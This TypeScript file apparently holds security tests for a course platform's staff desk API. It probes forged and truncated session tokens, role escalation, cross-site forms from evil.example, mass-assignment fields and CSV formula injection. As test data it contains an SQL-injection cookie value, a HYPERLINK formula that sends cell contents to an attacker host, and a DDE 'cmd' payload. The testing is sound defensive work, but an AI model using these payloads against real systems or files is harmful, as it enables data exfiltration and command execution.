import { setTimeout } from 'node:timers/promises'
import { type Client, randomNonce } from '@kaozhou/api'
import type { EndpointShape } from '@kaozhou/api/contract'
import { deskContract } from '@kaozhou/api/desk'
import { csvOf, hasRight, type Right, ROLE_NAMES } from '@kaozhou/domain'
import { openCashier } from '../../load/cashier'
import type { Attack, Attempt, Effort, Target } from '../attack'
import { demoCookie, newStudent } from '../logged-in'
import { type SignedCall, signedCall } from '../signed-call'

interface GuardedRow {
  id: string
  right: Right | 'anyone'
  method: NonNullable<SignedCall['method']>
  /** With a number for each of its parameters. */
  path: string
}

/** Every row of the desk that asks for somebody of the staff. */
const ROWS: readonly GuardedRow[] = Object.entries(deskContract).flatMap(([group, rows]) =>
  Object.entries(rows as Record<string, EndpointShape>).flatMap(([name, row]) => {
    if (typeof row.access !== 'object') return []
    const path = row.path.replace(/\{\w+\}/g, '1')
    return { id: `${group}.${name}`, right: row.access.staff, method: row.method, path }
  }),
)

/** A short run takes some rows of each group. */
function rowsFor({ count }: Effort): readonly GuardedRow[] {
  const every = Math.max(1, Math.ceil((ROWS.length * 4) / count))
  return ROWS.filter((_, index) => index % every === 0)
}

const NOT_TRIED = (bound: string): Attempt => ({
  result: 'not tried: no demo to log in by',
  bound,
  ok: true,
})

function verdict(tried: number, broken: readonly string[], bound: string): Attempt {
  const result = broken.length === 0 ? `${tried} tried` : `broken: ${broken.join(', ')}`
  return { result, bound, ok: broken.length === 0 }
}

async function cookieOf(target: Target, login: string): Promise<string | null> {
  return (await demoCookie(target, login))?.split(';')[0] ?? null
}

/** Tokens that are no session of the desk: a student's own, guesses, and parts of a true one. */
export const deskTokens: Attack = {
  id: 'desk-tokens',
  name: 'the desk with a student’s token, a guess, a part of a cookie',
  async run(target, effort) {
    const bound = '401 at every row'
    const [student, owner] = [await newStudent(target), await cookieOf(target, 'owner')]
    if (!student || !owner) return NOT_TRIED(bound)
    const { token } = student
    const guess = `${randomNonce()}${randomNonce()}${randomNonce()}`.padEnd(43, 'a').slice(0, 43)
    const carried: Record<string, string>[] = [
      {},
      { authorization: token, cookie: `kz_desk=${token}; sc_token_pro=${token}` },
      { cookie: `kz_desk=${guess}` },
      { cookie: owner.slice(0, -1) },
      { cookie: `${owner}x` },
      { cookie: owner.replace('kz_desk', 'KZ_DESK') },
      { authorization: `Bearer ${owner.slice('kz_desk='.length)}` },
      { cookie: "kz_desk=' or 1=1 --" },
    ]
    const broken: string[] = []
    const rows = rowsFor(effort)
    for (const { id, method, path } of rows) {
      for (const headers of carried) {
        const { status } = await signedCall(target, { method, path, headers })
        if (status !== 401) broken.push(`${id} (${status})`)
      }
    }
    return verdict(rows.length * carried.length, broken, bound)
  },
}

/** Every person of the demo at every row that their role has no right to. */
export const deskRoles: Attack = {
  id: 'desk-roles',
  name: 'the desk with another role’s cookie, and with rights that the request claims',
  async run(target, effort) {
    const bound = '403 at every row without the right'
    const broken: string[] = []
    let tried = 0
    for (const role of ROLE_NAMES) {
      const cookie = await cookieOf(target, role)
      if (!cookie) return NOT_TRIED(bound)
      for (const { id, right, method, path } of rowsFor(effort)) {
        if (right === 'anyone' || hasRight([role], right)) continue
        const claims = 'roles=owner&role=owner&staffId=1&rights=staff'
        const isRead = method === 'GET' || method === 'DELETE'
        const { status } = await signedCall(target, {
          method,
          path: isRead ? `${path}?${claims}` : path,
          ...(!isRead && { body: claims }),
          headers: { cookie, 'x-role': 'owner', 'x-forwarded-for': '10.0.0.1' },
        })
        tried += 1
        if (status !== 403) broken.push(`${role} at ${id} (${status})`)
      }
    }
    return verdict(tried, broken, bound)
  },
}

/** What a page of another site can make a browser send: forms and plain requests, with the cookie if it were to go along. */
export const deskForms: Attack = {
  id: 'desk-forms',
  name: 'forms of another site sent to the desk with a cookie',
  async run(target, effort) {
    const bound = 'refused, never shared with another origin; cookie HttpOnly and SameSite=Strict'
    const set = await demoCookie(target, 'owner')
    const cookie = set?.split(';')[0]
    if (!set || !cookie) return NOT_TRIED(bound)
    const broken: string[] = []
    for (const flag of ['HttpOnly', 'SameSite=Strict', 'Path=/api/desk']) {
      if (!set.includes(flag)) broken.push(`the cookie lacks ${flag}`)
    }
    const rows = rowsFor(effort)
    const origin = { origin: 'https://evil.example', referer: 'https://evil.example/' }
    for (const { id, method, path } of rows) {
      const isRead = method === 'GET'
      for (const type of ['application/x-www-form-urlencoded', 'text/plain', '']) {
        const answer = await fetch(`${target.url}${path}${isRead ? '' : `?_method=${method}`}`, {
          method: isRead ? 'GET' : 'POST',
          headers: { ...origin, cookie, ...(type && !isRead && { 'content-type': type }) },
          ...(type && !isRead && { body: 'key=aaaaaaaaaaaaaaaa&reason=because' }),
        })
        if (answer.status < 400) broken.push(`${id} taken as ${type || 'nothing'}`)
        if (answer.headers.has('access-control-allow-origin')) broken.push(`${id} is shared`)
      }
      const asked = { ...origin, 'access-control-request-method': method }
      const preflight = await fetch(target.url + path, { method: 'OPTIONS', headers: asked })
      if (preflight.headers.has('access-control-allow-origin')) broken.push(`${id} preflight`)
    }
    return verdict(rows.length * 4, broken, bound)
  },
}

/** Fields that a row does not have, which a careless server would copy into its tables or trust. */
export const deskFields: Attack = {
  id: 'desk-fields',
  name: 'fields of the tables sent along with deeds of the desk',
  async run(target) {
    const bound = 'nothing of them is kept'
    const student = await newStudent(target)
    const [owner, support] = [await cookieOf(target, 'owner'), await cookieOf(target, 'support')]
    if (!student || !owner || !support) return NOT_TRIED(bound)
    const { id } = await student.client.users.current()
    const broken: string[] = []

    const note = `key=${key()}&text=hello&staffId=1&staff_id=1&createdAt=1&at=1&id=1&subjectId=1`
    await post(target, `/api/desk/people/${id}/notes`, note, support)
    const { data: person } = await get<PersonRead>(target, `/api/desk/people/${id}`, support)
    const [kept] = person?.notes ?? []
    if (kept?.text !== 'hello' || kept.at < target.now() - 3_600_000 || !kept.staffName) {
      broken.push('a note took its time from the request, or was not kept')
    }
    const { data: me } = await get<{ name: string }>(target, '/api/desk/me', support)
    if (kept && kept.staffName !== me?.name) broken.push('a note stands under another name')

    const points = `key=${key()}&reason=because&change=5&points=99999&userId=1&mobile=13800000000`
    await post(target, `/api/desk/people/${id}/points`, points, support)
    const after = await get<PersonRead>(target, `/api/desk/people/${id}`, support)
    if (after.data?.points !== (person?.points ?? 0) + 5) broken.push('points were set')

    const login = `x${Math.floor(Math.random() * 1e9)}`
    const hired = `key=${key()}&login=${login}&name=Name&roles=shipping&isDemo=true&is_demo=true&state=active&passwordHash=x&totpSecret=x&createdAt=1`
    await post(target, '/api/desk/staff', hired, owner)
    const { data: staff } = await get<{ list: { login: string; state: string }[] }>(
      target,
      '/api/desk/staff',
      owner,
    )
    if (staff?.list.find((one) => one.login === login)?.state !== 'invited') {
      broken.push('a new colleague was not merely invited')
    }
    if (await cookieOf(target, login)) broken.push('a new colleague logs in as one of the demo')
    return verdict(3, broken, bound)
  },
}

/** A course without a book. */
const COURSE = 1003

/** What a table program would take for a formula. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"点这里领发票")',
  '+1+cmd|"/c calc"!A1',
  '-2+3+SUM(A1:A9)',
  '@SUM(1+1)',
  '＝1+1',
  '"=1+1',
]

/** Formulas as titles of invoices, on their way into the files that finance exports. */
export const deskFormulas: Attack = {
  id: 'desk-formulas',
  name: 'formulas as titles of invoices, in the file that the desk exports',
  async run(target) {
    const bound = 'each stands as the text that it is'
    const [student, finance] = [await newStudent(target), await cookieOf(target, 'finance')]
    if (!student || !finance) return NOT_TRIED(bound)
    const id = await paidOrder(student.client)
    const broken: string[] = []
    for (const title of FORMULAS) {
      await student.client.orders.askInvoice({ id, kind: 'person', title })
      const path = `/api/desk/invoices?queue=requested&q=${id}`
      const { data } = await get<{ list: { title: string }[] }>(target, path, finance)
      const [row] = data?.list ?? []
      if (row?.title !== title) broken.push(`${title} came as ${row?.title}`)
      const [, cell = ''] = csvOf({ columns: ['抬头'], rows: [[row?.title ?? '']] }).split('\r\n')
      const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
      if (/^[=+\-@＝＋－＠\s]/.test(read)) broken.push(`${title} stands as ${cell}`)
      await student.client.orders.withdrawInvoice({ id })
    }
    return verdict(FORMULAS.length, broken, bound)
  },
}

async function paidOrder(client: Client): Promise<string> {
  const { checkoutKey, price } = await client.buying.singleConfirm({ courseId: COURSE })
  const { id } = await client.buying.single({ checkoutKey, total: price.total })
  const pay = await openCashier(client, id)
  await pay()
  for (let tries = 0; tries < 200; tries += 1) {
    if ((await client.orders.state({ id })).status === 'paid') return id
    await setTimeout(100)
  }
  throw new Error('the payment did not arrive')
}

interface PersonRead {
  points: number
  notes: { at: number; text: string; staffName: string }[]
}

const key = (): string => randomNonce().padEnd(16, '0')

async function get<T>(target: Target, path: string, cookie: string): Promise<{ data?: T }> {
  const answer = await signedCall(target, { path, headers: { cookie } })
  return (await answer.json()) as { data?: T }
}

function post(target: Target, path: string, body: string, cookie: string): Promise<Response> {
  return signedCall(target, { method: 'POST', path, body, headers: { cookie } })
}
